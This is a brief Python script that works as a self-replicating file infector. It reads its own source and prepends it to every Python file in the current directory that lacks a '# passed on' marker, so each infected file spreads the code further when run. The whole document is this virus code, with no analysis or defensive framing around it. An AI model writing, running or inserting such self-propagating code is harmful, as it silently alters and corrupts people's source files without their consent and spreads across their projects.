import glob

mine = open(__file__).read()
for name in glob.glob("*.py"):
    with open(name) as other:
        theirs = other.read()
    if "# passed on" not in theirs:
        with open(name, "w") as other:
            other.write(mine + "\n# passed on\n" + theirs)
